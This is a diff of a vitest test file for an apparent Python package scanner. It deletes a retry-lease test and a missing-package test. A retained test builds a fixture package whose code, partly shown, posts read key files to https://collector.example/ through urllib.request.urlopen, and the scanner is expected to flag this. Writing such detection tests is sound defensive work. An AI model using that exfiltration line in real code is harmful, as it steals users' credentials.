@@ -5,7 +5,6 @@ import { join } from 'node:path';
 import { expect, it, onTestFinished } from 'vitest';
 import { packageReports } from '../../../cli/packages/report-on-package.ts';
 import { printPylock } from '../../../cli/packages/resolve-python.ts';
-import { packageReportRetryMs } from '../../../registry/scans/package-reports.ts';
 import { packageAdvisories, packages } from '../../../registry/store/package-schema.ts';
 import { listDoubts } from '../../../registry/versions/second-scans.ts';
 import { ruleSetDigest } from '../../../scanner/rule-set.ts';
@@ -118,16 +117,6 @@ it('an honest package is remembered with what it is', async () => {
   expect(await listDoubts(world.registry)).toEqual([]);
 });
 
-it('a package whose look fails is free again after a minute', async () => {
-  const { index, wheel } = makePackageWorld();
-  const one = wheel('tool', {}, { metadata: 'Name: tool\nVersion: 1.0\n\n' });
-  const lines = await lookAt(one, { index, advisory: 'PYSEC-2026-1', isDamaged: true });
-  expect(lines[0]).toContain('PYSEC-2026-1.json');
-  const row = await remembered();
-  expect(row?.lookedAt).toBeNull();
-  expect(row?.leaseUntil).toBe(world.registry.now().getTime() + packageReportRetryMs);
-});
-
 it('a package that steals keys is marked, and a person is asked', async () => {
   const { index, wheel } = makePackageWorld();
   const theft = `import pathlib, urllib.request
@@ -139,15 +128,4 @@ urllib.request.urlopen('https://collector.example/', data=keys)
   expect((await listDoubts(world.registry)).map(({ why }) => why)).toEqual([
     expect.stringContaining('flow/credential-file-to-network at tool/__init__.py:3'),
   ]);
-});
-
-it('a package that no index has is remembered with the reason', async () => {
-  const { wheel } = makePackageWorld();
-  const one = wheel('tool', {});
-  const { index } = makePackageWorld();
-  expect(await lookAt(one, { index })).toEqual(['python tool 1.0: not fetched']);
-  expect(await remembered()).toMatchObject({
-    looked: 'not fetched',
-    why: expect.stringContaining('does not have it'),
-  });
 });
